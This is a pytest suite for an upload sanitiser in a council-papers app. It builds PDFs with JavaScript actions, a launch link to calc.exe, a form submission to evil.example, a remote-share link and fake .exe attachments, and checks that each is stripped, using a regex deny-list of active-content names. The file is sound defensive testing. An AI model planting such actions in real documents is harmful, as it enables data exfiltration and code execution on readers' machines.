"""A secretary uploads a paper: a good PDF, a picture or a Word file goes in clean; a file that
carries scripts, launchers or hidden attachments goes in with all of them stripped; a file
that cannot be read is refused with a reason the secretary understands."""

from __future__ import annotations

import datetime
import io
import pickle
import re
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pymupdf
import pytest

from agenda import ingest as ingest_module
from agenda.demo_papers import DemoPaper, demo_session
from agenda.ingest import MAX_PAGES, Ingested, Refused, ingest
from agenda.isolation import WorkerFailed, run_isolated
from tests.conftest import need

A4 = (595, 842)
LARGEST_PAPER = (4768, 6741)  # 4A0 in points
ACTIVE_CONTENT = re.compile(
    rb"/(JavaScript|JS|Launch|OpenAction|AA|EmbeddedFiles?|FileAttachment|SubmitForm|ImportData"
    rb"|GoToR|GoToE|Rendition|XFA|RichMedia|EF)(?![A-Za-z0-9#])"
)


# ---------------------------------------------------------------------------
# Making files


def _paper(pages: int = 1, text: str = "To trinh so 12/TTr-UBND") -> pymupdf.Document:
    doc = pymupdf.open()
    for n in range(pages):
        doc.new_page(width=A4[0], height=A4[1]).insert_text((72, 72), f"{text} - trang {n + 1}")
    return doc


def _raw_pdf(*objects: str) -> bytes:
    """A PDF written by hand: object n is objects[n - 1], object 1 the catalog."""
    out = bytearray(b"%PDF-1.7\n")
    offsets = []
    for number, source in enumerate(objects, start=1):
        offsets.append(len(out))
        out += f"{number} 0 obj\n{source}\nendobj\n".encode()
    start = len(out)
    out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
    out += b"".join(f"{offset:010d} 00000 n \n".encode() for offset in offsets)
    out += f"trailer\n<</Size {len(objects) + 1}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF\n".encode()
    return bytes(out)


def _add_annot(doc: pymupdf.Document, page: pymupdf.Page, source: str) -> int:
    """Appends an annotation object written by hand to the page's /Annots."""
    xref = doc.get_new_xref()
    doc.update_object(xref, source)
    kind, annots = doc.xref_get_key(page.xref, "Annots")
    refs = annots.strip("[]") if kind == "array" else ""
    doc.xref_set_key(page.xref, "Annots", f"[{refs} {xref} 0 R]")
    return xref


def _picture(width: int, height: int) -> pymupdf.Pixmap:
    """A white picture with a red band down its left quarter, drawn by MuPDF (fast)."""
    doc = pymupdf.open()
    page = doc.new_page(width=width, height=height)
    page.draw_rect(pymupdf.Rect(0, 0, width / 4, height), color=None, fill=(0.86, 0, 0))
    return page.get_pixmap(dpi=72, alpha=False)


def _png(width: int, height: int) -> bytes:
    return _picture(width, height).tobytes("png")


def _jpeg(width: int, height: int, exif_orientation: int | None = None) -> bytes:
    jpeg = _picture(width, height).tobytes("jpeg")
    if exif_orientation is None:
        return jpeg
    ifd = struct.pack(">HHHIHH", 1, 0x0112, 3, 1, exif_orientation, 0) + b"\0\0\0\0"
    exif = b"Exif\0\0MM\0\x2a\0\0\0\x08" + ifd
    return jpeg[:2] + b"\xff\xe1" + struct.pack(">H", len(exif) + 2) + exif + jpeg[2:]


def _png_header_only(width: int, height: int) -> bytes:
    """A PNG whose header promises a huge picture and whose data is almost nothing."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = zlib.compress(b"\0" * 1000)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", data) + chunk(b"IEND", b"")
    )


def _docx(text: str) -> bytes:
    """The smallest Word document LibreOffice opens, zipped by hand."""
    main = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    word = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument"
    files = {
        "[Content_Types].xml": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/word/document.xml" ContentType="{main}"/></Types>'
        ),
        "_rels/.rels": (
            '<?xml version="1.0" encoding="UTF-8"?>'
            '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
            f'<Relationship Id="rId1" Type="{office}" Target="word/document.xml"/></Relationships>'
        ),
        "word/document.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{word}"><w:body>'
            f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
        ),
    }
    return _zip(files)


def _zip(files: dict[str, str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def _refusal(data: bytes, filename: str = "tai-lieu.pdf") -> Refused:
    with pytest.raises(Refused) as refused:
        ingest(data, filename)
    return refused.value


def _open(result: Ingested) -> pymupdf.Document:
    return pymupdf.open(stream=result.pdf, filetype="pdf")


def _active_content(pdf: bytes) -> list[tuple[int, str]]:
    """(xref, name) for every action, script or attachment left anywhere in the file."""
    doc = pymupdf.open(stream=pdf, filetype="pdf")
    sources = [(0, doc.pdf_trailer())]
    sources += [(xref, doc.xref_object(xref)) for xref in range(1, doc.xref_length())]
    return [
        (xref, match.decode())
        for xref, source in sources
        for match in ACTIVE_CONTENT.findall(source.encode())
    ]


# ---------------------------------------------------------------------------
# Hostile files: each builder adds one trick to a plain paper.


def _javascript_on_open(doc: pymupdf.Document) -> None:
    doc.xref_set_key(doc.pdf_catalog(), "OpenAction", "<</S/JavaScript/JS(app.alert\\(1\\))>>")


def _javascript_name_tree(doc: pymupdf.Document) -> None:
    names = doc.get_new_xref()
    doc.update_object(
        names, "<</JavaScript<</Names[(init)<</S/JavaScript/JS(this.print\\(\\))>>]>>>>"
    )
    doc.xref_set_key(doc.pdf_catalog(), "Names", f"{names} 0 R")


def _launch_on_link(doc: pymupdf.Document) -> None:
    link = {
        "kind": pymupdf.LINK_LAUNCH,
        "from": pymupdf.Rect(72, 100, 300, 120),
        "file": "calc.exe",
    }
    doc[0].insert_link(link)


def _javascript_on_link(doc: pymupdf.Document) -> None:
    _add_annot(
        doc,
        doc[0],
        "<</Type/Annot/Subtype/Link/Rect[72 600 300 620]/A<</S/JavaScript/JS(app.alert\\(2\\))>>>>",
    )


def _javascript_uri_on_link(doc: pymupdf.Document) -> None:
    link = {
        "kind": pymupdf.LINK_URI,
        "from": pymupdf.Rect(72, 130, 300, 150),
        "uri": "java\tscript:alert(1)",
    }
    doc[0].insert_link(link)


def _javascript_after_goto(doc: pymupdf.Document) -> None:
    _add_annot(
        doc,
        doc[0],
        "<</Type/Annot/Subtype/Link/Rect[72 560 300 580]"
        "/A<</S/GoTo/D[0/Fit]/Next<</S/JavaScript/JS(app.alert\\(3\\))>>>>>>",
    )


def _scripts_on_form_field(doc: pymupdf.Document) -> None:
    widget = pymupdf.Widget()
    widget.field_type = pymupdf.PDF_WIDGET_TYPE_TEXT
    widget.field_name = "y_kien"
    widget.rect = pymupdf.Rect(72, 200, 300, 220)
    widget.script = "app.alert('focus')"
    widget.script_change = "app.alert('change')"
    doc[0].add_widget(widget)


def _submit_form_button(doc: pymupdf.Document) -> None:
    _add_annot(
        doc,
        doc[0],
        "<</Type/Annot/Subtype/Widget/FT/Btn/Ff 65536/T(gui)/Rect[72 240 200 260]"
        "/A<</S/SubmitForm/F<</FS/URL/F(http://evil.example/collect)>>>>>>",
    )


def _javascript_when_page_opens(doc: pymupdf.Document) -> None:
    doc.xref_set_key(doc[0].xref, "AA", "<</O<</S/JavaScript/JS(app.alert\\(4\\))>>>>")


def _javascript_in_bookmark(doc: pymupdf.Document) -> None:
    doc.set_toc([[1, "Muc 1", 1]])
    (bookmark,) = doc.get_outline_xrefs()
    doc.xref_set_key(bookmark, "A", "<</S/JavaScript/JS(app.alert\\(5\\))>>")


def _remote_file_on_link(doc: pymupdf.Document) -> None:
    _add_annot(
        doc,
        doc[0],
        "<</Type/Annot/Subtype/Link/Rect[72 520 300 540]"
        "/A<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\x.pdf)/D[0/Fit]>>>>",
    )


def _embedded_file(doc: pymupdf.Document) -> None:
    doc.embfile_add("hoa-don.exe", b"MZ\x90\x00 not really a program")


def _file_attachment_annotation(doc: pymupdf.Document) -> None:
    doc[0].add_file_annot((400, 400), b"MZ\x90\x00 payload", "phu-luc.exe")


def _media_with_rendition(doc: pymupdf.Document) -> None:
    _add_annot(
        doc,
        doc[0],
        "<</Type/Annot/Subtype/Screen/Rect[72 400 300 500]"
        "/A<</S/Rendition/OP 0/JS(app.alert\\(6\\))>>>>",
    )


def _xfa_form(doc: pymupdf.Document) -> None:
    doc.xref_set_key(doc.pdf_catalog(), "AcroForm", "<</Fields[]/XFA(<xdp:xdp/>)>>")


HOSTILE = {
    "javascript on open": _javascript_on_open,
    "javascript name tree": _javascript_name_tree,
    "launch on link": _launch_on_link,
    "javascript on link": _javascript_on_link,
    "javascript uri on link": _javascript_uri_on_link,
    "javascript after goto": _javascript_after_goto,
    "scripts on form field": _scripts_on_form_field,
    "submit form button": _submit_form_button,
    "javascript when page opens": _javascript_when_page_opens,
    "javascript in bookmark": _javascript_in_bookmark,
    "remote file on link": _remote_file_on_link,
    "embedded file": _embedded_file,
    "file attachment annotation": _file_attachment_annotation,
    "media with rendition": _media_with_rendition,
    "xfa form": _xfa_form,
}


def _hostile(*tricks: Callable[[pymupdf.Document], None]) -> bytes:
    doc = _paper()
    for trick in tricks:
        trick(doc)
    return doc.tobytes()


def _links(result: Ingested) -> list[dict]:
    return [link for page in _open(result) for link in page.get_links()]


@pytest.mark.parametrize("trick", HOSTILE.values(), ids=HOSTILE.keys())
def test_active_content_is_stripped(trick: Callable[[pymupdf.Document], None]) -> None:
    data = _hostile(trick)
    assert _active_content(data) or "uri" in trick.__name__  # the trick is really there

    result = ingest(data, "to-trinh.pdf")

    assert _active_content(result.pdf) == []
    doc = _open(result)
    assert doc.embfile_count() == 0
    assert doc.page_count == 1
    assert "To trinh so 12/TTr-UBND" in doc[0].get_text()
    uris = [link.get("uri", "") for link in _links(result)]
    assert not any("script" in uri for uri in uris)


def test_every_trick_at_once_is_stripped() -> None:
    result = ingest(_hostile(*HOSTILE.values()), "to-trinh.pdf")
    assert _active_content(result.pdf) == []
    assert _open(result).embfile_count() == 0


def test_names_spelled_with_escapes_are_caught() -> None:
    data = _raw_pdf(
        "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Java#53cript/J#53(app.alert(1))>>>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/AA<</O<</S/L#61unch/F(calc.exe)>>>>>>",
    )
    assert _active_content(ingest(data, "x.pdf").pdf) == []


def test_what_delegates_need_survives_cleaning() -> None:
    doc = _paper(pages=2)
    page = doc[0]
    page.insert_link(
        {
            "kind": pymupdf.LINK_URI,
            "from": pymupdf.Rect(72, 100, 300, 120),
            "uri": "https://hdnd.example.vn/",
        }
    )
    page.insert_link(
        {"kind": pymupdf.LINK_GOTO, "from": pymupdf.Rect(72, 130, 300, 150), "page": 1}
    )
    page.add_text_annot((400, 100), "Đề nghị làm rõ số liệu mục 2")
    page.add_highlight_annot(pymupdf.Rect(72, 60, 250, 80))
    widget = pymupdf.Widget()
    widget.field_type = pymupdf.PDF_WIDGET_TYPE_TEXT
    widget.field_name = "y_kien"
    widget.field_value = "Đồng ý"
    widget.rect = pymupdf.Rect(72, 300, 300, 320)
    page.add_widget(widget)
    doc.set_toc([[1, "Phần I", 1], [1, "Phần II", 2]])

    result = _open(ingest(doc.tobytes(), "to-trinh.pdf"))

    links = result[0].get_links()
    assert [link.get("uri") for link in links if link["kind"] == pymupdf.LINK_URI] == [
        "https://hdnd.example.vn/"
    ]
    assert [link["page"] for link in links if link["kind"] == pymupdf.LINK_GOTO] == [1]
    notes = {annot.type[1]: annot.info["content"] for annot in result[0].annots()}
    assert notes == {"Text": "Đề nghị làm rõ số liệu mục 2", "Highlight": ""}
    assert [w.field_value for w in result[0].widgets()] == ["Đồng ý"]
    assert result.get_toc() == [[1, "Phần I", 1], [1, "Phần II", 2]]


# ---------------------------------------------------------------------------
# Good papers


@pytest.fixture(scope="module")
def demo_papers() -> list[DemoPaper]:
    agenda = demo_session("Hội đồng nhân dân phường Ba Đình", "Hà Nội", datetime.date(2026, 12, 8))
    return [paper for item in agenda for paper in item.papers]


def test_council_papers_pass_unchanged(demo_papers: list[DemoPaper]) -> None:
    for paper in demo_papers:
        result = ingest(paper.pdf, paper.filename)
        original = pymupdf.open(stream=paper.pdf, filetype="pdf")
        cleaned = _open(result)
        assert (result.page_count, cleaned.page_count) == (original.page_count,) * 2
        assert [p.get_text() for p in cleaned] == [p.get_text() for p in original]
        assert [p.rect for p in cleaned] == [p.rect for p in original]
        assert result.converted_from == "pdf"
        assert result.title == original.metadata["title"]


def test_title_comes_from_the_pdf_without_the_word_prefix() -> None:
    doc = _paper()
    doc.set_metadata({"title": "Microsoft Word - To trinh du toan 2027"})
    assert ingest(doc.tobytes(), "x.pdf").title == "To trinh du toan 2027"
    doc.set_metadata({"title": "Microsoft Word - tt12.docx"})
    assert ingest(doc.tobytes(), "x.pdf").title == ""
    assert ingest(_paper().tobytes(), "x.pdf").title == ""


def test_pdf_locked_only_against_editing_is_taken_unlocked() -> None:
    data = _paper().tobytes(
        encryption=pymupdf.PDF_ENCRYPT_AES_256, owner_pw="chu-so-huu", permissions=0
    )
    result = ingest(data, "khoa-chinh-sua.pdf")
    assert _open(result).metadata["encryption"] is None
    assert "To trinh" in _open(result)[0].get_text()


def test_file_name_does_not_decide_the_type() -> None:
    assert ingest(_paper().tobytes(), "bao-cao.docx").converted_from == "pdf"
    assert ingest(_png(30, 20), "bao-cao.pdf").converted_from == "image"


def test_progress_is_reported() -> None:
    seen: list[tuple] = []
    ingest(_paper(pages=3).tobytes(), "x.pdf", progress=lambda *parts: seen.append(parts))
    assert seen[0] == ("opening",)
    assert ("checking pages", 3, 3) in seen
    assert seen[-1] == ("cleaning",)


# ---------------------------------------------------------------------------
# Refusals


def test_password_protected_pdf_is_refused() -> None:
    data = _paper().tobytes(
        encryption=pymupdf.PDF_ENCRYPT_AES_256, user_pw="mat-khau", owner_pw="chu-so-huu"
    )
    refusal = _refusal(data)
    assert refusal.code == "encrypted"
    assert "password" in refusal.message


def test_pdf_cut_short_is_refused_as_damaged(demo_papers: list[DemoPaper]) -> None:
    paper = max(demo_papers, key=lambda p: len(p.pdf))
    refusal = _refusal(paper.pdf[: len(paper.pdf) // 2])
    assert refusal.code == "damaged"
    assert "damaged or incomplete" in refusal.message


def test_pdf_with_broken_cross_reference_is_refused_as_damaged() -> None:
    data = _paper().tobytes().replace(b"startxref\n", b"startxref\n9")
    assert _refusal(data).code == "damaged"


def test_pdf_with_an_object_out_of_place_is_refused_as_damaged() -> None:
    data = _raw_pdf(
        "<</Type/Catalog/Pages 2 0 R>>",
        "<</Type/Pages/Kids[3 0 R]/Count 1>>",
        "<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>",
        "<</Length 9>>\nstream\nBT ET    \nendstream",
    )
    where = data.rindex(b"\n", 0, data.index(b"trailer") - 1) + 1  # the last xref entry
    offset = int(data[where : where + 10])
    data = data[:where] + b"%010d" % (offset + 7) + data[where + 10 :]
    assert pymupdf.open(stream=data, filetype="pdf").is_repaired is False  # not yet
    assert _refusal(data).code == "damaged"


def test_random_bytes_named_pdf_are_not_a_pdf() -> None:
    refusal = _refusal(bytes(range(256)) * 64, "bien-ban.pdf")
    assert refusal.code == "not_pdf"
    assert refusal.message == "This file is not a PDF, even though its name ends in .pdf."


def test_web_page_named_pdf_is_not_a_pdf() -> None:
    html = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
    assert _refusal(html, "nghi-quyet.PDF").code == "not_pdf"


def test_unknown_file_without_pdf_name_is_not_a_pdf() -> None:
    refusal = _refusal(b"just some text\n", "ghi-chu.txt")
    assert refusal.code == "not_pdf"
    assert ".pdf" not in refusal.message


def test_empty_file_is_refused() -> None:
    assert _refusal(b"").code == "empty"


def test_pdf_without_pages_is_refused() -> None:
    data = _raw_pdf("<</Type/Catalog/Pages 2 0 R>>", "<</Type/Pages/Kids[]/Count 0>>")
    assert _refusal(data).code == "empty"


def test_pdf_with_too_many_pages_is_refused() -> None:
    doc = _paper()
    for _ in range(MAX_PAGES):
        doc.fullcopy_page(0)
    refusal = _refusal(doc.tobytes())
    assert refusal.code == "too_many_pages"
    assert str(MAX_PAGES) in refusal.message
    assert refusal.params == {"pages": MAX_PAGES + 1, "limit": MAX_PAGES}


def test_page_beyond_pdf_size_limit_is_refused() -> None:
    doc = _paper(pages=2)
    doc.xref_set_key(doc[1].xref, "MediaBox", "[0 0 20000 20000]")
    refusal = _refusal(doc.tobytes())
    assert refusal.code == "page_too_large"
    assert refusal.params == {"page": 2}


def test_page_larger_than_any_paper_is_scaled_down_to_4a0() -> None:
    doc = _paper()
    page = doc[0]
    doc.xref_set_key(page.xref, "MediaBox", "[1000 1000 9000 6000]")  # 8000 x 5000 pt
    page = doc.reload_page(page)
    page.insert_text((2000, 3000), "Ban do quy hoach")
    page.insert_link(
        {
            "kind": pymupdf.LINK_URI,
            "from": pymupdf.Rect(2000, 3100, 4000, 3300),
            "uri": "https://a.vn/",
        }
    )
    page.add_text_annot((6000, 4000), "ghi chu")
    page = doc.reload_page(page)
    before = {
        "text": page.search_for("Ban do quy hoach")[0],
        "link": page.get_links()[0]["from"],
        "note": next(page.annots()).rect.top_left,  # a note icon keeps its size (NoZoom)
    }

    result = _open(ingest(doc.tobytes(), "ban-do.pdf"))

    page = result[0]
    scale = LARGEST_PAPER[1] / 8000
    assert tuple(page.rect) == pytest.approx((0, 0, 8000 * scale, 5000 * scale), abs=0.5)
    after = {
        "text": page.search_for("Ban do quy hoach")[0],
        "link": page.get_links()[0]["from"],
        "note": next(page.annots()).rect.top_left,
    }
    for name, rect in before.items():
        assert tuple(after[name]) == pytest.approx(tuple(rect * scale), abs=1.0), name


def test_a0_drawing_is_kept_at_its_size() -> None:
    doc = pymupdf.open()
    doc.new_page(width=2384, height=3370).insert_text((100, 100), "A0")
    assert _open(ingest(doc.tobytes(), "a0.pdf"))[0].rect == pymupdf.Rect(0, 0, 2384, 3370)


# ---------------------------------------------------------------------------
# Pictures


@pytest.mark.parametrize(
    ("picture", "size"),
    [(_png(1200, 800), (842, 842 * 800 / 1200)), (_jpeg(600, 900), (842 * 600 / 900, 842))],
    ids=["landscape png", "portrait jpeg"],
)
def test_picture_becomes_one_page_of_its_shape(picture: bytes, size: tuple[float, float]) -> None:
    result = ingest(picture, "anh-chup.jpg")
    assert (result.converted_from, result.page_count) == ("image", 1)
    page = _open(result)[0]
    assert page.rect.width == pytest.approx(size[0], abs=0.5)
    assert page.rect.height == pytest.approx(size[1], abs=0.5)
    assert page.rect.width <= A4[1] and page.rect.height <= A4[1]
    (image,) = page.get_image_info()
    assert tuple(image["bbox"]) == pytest.approx(tuple(page.rect), abs=0.5)


def test_picture_keeps_its_resolution() -> None:
    page = _open(ingest(_jpeg(3000, 2000), "scan.jpg"))[0]
    (image,) = page.get_image_info()
    assert (image["width"], image["height"]) == (3000, 2000)


def test_photo_turned_by_the_camera_is_shown_upright() -> None:
    photo = _jpeg(800, 400, exif_orientation=6)  # stored lying down, "turn 90° clockwise"
    page = _open(ingest(photo, "dien-thoai.jpg"))[0]
    assert page.rect.height > page.rect.width
    pixmap = page.get_pixmap(dpi=20)
    top, bottom = (
        pixmap.pixel(pixmap.width // 2, 1),
        pixmap.pixel(pixmap.width // 2, pixmap.height - 2),
    )
    assert top[0] > 150 and top[1] < 100  # the red edge turned to the top
    assert bottom[1] > 150


def test_picture_too_large_is_refused_before_decoding() -> None:
    refusal = _refusal(_png_header_only(20000, 20000), "ban-do.png")
    assert refusal.code == "page_too_large"


def test_broken_picture_is_refused() -> None:
    assert (
        _refusal(b"\x89PNG\r\n\x1a\n" + b"not a picture" * 10, "anh.png").code == "image_unreadable"
    )


def test_webp_picture_is_unsupported() -> None:
    webp = b"RIFF\x24\x00\x00\x00WEBPVP8 " + b"\x00" * 32
    refusal = _refusal(webp, "anh.webp")
    assert refusal.code == "unsupported"
    assert "JPEG or PNG" in refusal.message


def test_zip_archive_is_unsupported() -> None:
    assert _refusal(_zip({"a.txt": "x"}), "ho-so.zip").code == "unsupported"


# ---------------------------------------------------------------------------
# Word and OpenDocument files


@pytest.fixture
def no_office(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))


@pytest.fixture
def fake_office(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str], None]:
    """Puts a stand-in `soffice` on PATH that runs `script` (Python) with the out dir and source."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()

    def install(script: str) -> None:
        program = bin_dir / "soffice"
        program.write_text(
            f"#!{sys.executable}\n"
            "import pathlib, sys, time\n"
            "args = sys.argv[1:]\n"
            "out = pathlib.Path(args[args.index('--outdir') + 1])\n"
            "source = pathlib.Path(args[-1])\n" + script
        )
        program.chmod(0o755)

    monkeypatch.setenv("PATH", str(bin_dir))
    return install


def test_word_file_without_libreoffice_is_refused(no_office: None) -> None:
    refusal = _refusal(_docx("Tờ trình"), "to-trinh.docx")
    assert refusal.code == "office_unavailable"
    assert refusal.message == (
        "Word and OpenDocument files need LibreOffice on the server; "
        "save the file as PDF and upload that."
    )


def test_word_file_is_converted_by_libreoffice_and_cleaned(
    fake_office: Callable[[str], None], tmp_path: Path
) -> None:
    (tmp_path / "converted.pdf").write_bytes(_hostile(_javascript_on_open, _embedded_file))
    fake_office(
        f"assert source.suffix == '.docx'\n"
        f"out.mkdir(exist_ok=True)\n"
        f"(out / (source.stem + '.pdf')).write_bytes(pathlib.Path({str(tmp_path)!r}).joinpath("
        f"'converted.pdf').read_bytes())\n"
    )
    result = ingest(_docx("Tờ trình"), "to-trinh.pdf")
    assert (result.converted_from, result.page_count) == ("office", 1)
    assert _active_content(result.pdf) == []


def test_opendocument_text_goes_to_libreoffice(fake_office: Callable[[str], None]) -> None:
    fake_office("assert source.suffix == '.odt'\nsys.exit(1)\n")
    odt = _zip({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<x/>"})
    assert _refusal(odt, "bien-ban.odt").code == "office_failed"


def test_failed_conversion_is_refused(fake_office: Callable[[str], None]) -> None:
    fake_office("sys.exit(0)\n")  # says it worked, writes nothing
    assert _refusal(_docx("x"), "x.docx").code == "office_failed"


def test_hanging_conversion_is_stopped(
    fake_office: Callable[[str], None], monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    pid_file = tmp_path / "office.pid"
    fake_office(
        f"import os\npathlib.Path({str(pid_file)!r}).write_text(str(os.getpid()))\ntime.sleep(60)\n"
    )
    monkeypatch.setattr(ingest_module, "OFFICE_TIMEOUT_S", 1.0)
    assert _refusal(_docx("x"), "x.docx").code == "office_failed"
    assert not Path(f"/proc/{pid_file.read_text()}").exists()


def test_word_file_with_macros_is_unsupported() -> None:
    files = {
        "[Content_Types].xml": '<Types><Override PartName="/word/document.xml" '
        'ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
    }
    assert _refusal(_zip(files), "x.docm").code == "unsupported"


def test_password_protected_word_file_is_refused() -> None:
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 100 + "EncryptedPackage".encode("utf-16-le")
    assert _refusal(ole, "x.docx").code == "encrypted"


def test_word_file_is_converted_by_real_libreoffice() -> None:
    need(ingest_module.office_program() is not None, "LibreOffice (soffice) is not installed")
    result = ingest(_docx("Tờ trình về dự toán ngân sách"), "to-trinh.docx")
    assert result.converted_from == "office"
    assert "dự toán ngân sách" in _open(result)[0].get_text()


# ---------------------------------------------------------------------------
# How the server calls it: in a worker process, refusals and all.


def test_hostile_pdf_is_cleaned_in_a_worker() -> None:
    seen: list[tuple] = []
    result = run_isolated(
        ingest,
        _hostile(*HOSTILE.values()),
        "to-trinh.pdf",
        timeout_s=30,
        memory_mb=1024,
        on_progress=lambda *parts: seen.append(parts),
    )
    assert isinstance(result, Ingested)
    assert _active_content(result.pdf) == []
    assert seen[0] == ("opening",)


def test_refusal_comes_back_from_the_worker() -> None:
    data = _paper().tobytes(encryption=pymupdf.PDF_ENCRYPT_AES_256, user_pw="x", owner_pw="y")
    with pytest.raises(Refused) as refused:
        run_isolated(ingest, data, "x.pdf", timeout_s=30, memory_mb=1024)
    assert refused.value.code == "encrypted"


def test_picture_too_big_for_the_worker_memory_fails_as_memory() -> None:
    with pytest.raises(WorkerFailed) as failed:
        run_isolated(ingest, _png_header_only(9000, 9000), "ban-do.png", memory_mb=400)
    assert failed.value.reason == "memory"


def test_refusal_survives_pickling() -> None:
    refusal = Refused("too_many_pages", "Too many.", pages=2001, limit=2000)
    copy = pickle.loads(pickle.dumps(refusal))
    assert (copy.code, copy.message, copy.params, str(copy)) == (
        "too_many_pages",
        "Too many.",
        {"pages": 2001, "limit": 2000},
        "Too many.",
    )
